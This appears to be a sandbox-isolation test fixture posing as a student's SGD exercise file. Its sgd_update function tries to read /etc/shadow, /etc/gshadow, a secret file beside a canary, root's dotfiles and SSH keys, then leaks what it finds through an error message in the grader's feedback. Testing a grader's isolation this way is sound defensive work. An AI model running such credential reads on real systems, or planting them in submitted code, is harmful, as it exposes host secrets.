# attack: read /etc/shadow, /etc/gshadow, the test's secret.txt beside {CANARY} and root's home (/root: .bashrc, .npmrc, .ssh, .gitconfig) and leak them through the feedback
# holds: none of it exists in the jail (only /root/.pyenv's Python is bound): nothing of /etc/shadow or secret.txt reaches any result
"""Exercise 3: A manual SGD step (attacker: reads the host's secrets)."""

import glob
import os

BREACH = "BRE" "ACH!"


def _attack() -> list[str]:
    notes = []
    beside_canary = os.path.join(os.path.dirname("{CANARY}"), "secret.txt")
    for path in ["/etc/shadow", "/etc/gshadow", beside_canary, "/root/.bashrc", "/root/.npmrc", "/root/.gitconfig",
                 "/root/.profile", *glob.glob("/root/.ssh/*")]:
        try:
            with open(path, "rb") as f:
                notes.append(f"{BREACH} read {path}: " + f.read(600).decode(errors="replace"))
        except OSError as exc:
            notes.append(f"{path}: {exc.strerror}")
    try:
        listing = sorted(os.listdir("/root"))
        notes.append(("" if listing in ([], [".pyenv"]) else f"{BREACH} ") + f"/root holds {listing}")
    except OSError as exc:
        notes.append(f"/root: {exc.strerror}")
    return notes


def sgd_update(params, lr):
    if os.getpid() == 1 and not os.__dict__.get("_attack_done"):
        os._attack_done = True
        raise RuntimeError("attack report: " + " | ".join(_attack()))
    raise NotImplementedError


def sgd_momentum_update(params, velocities, lr, momentum):
    raise NotImplementedError
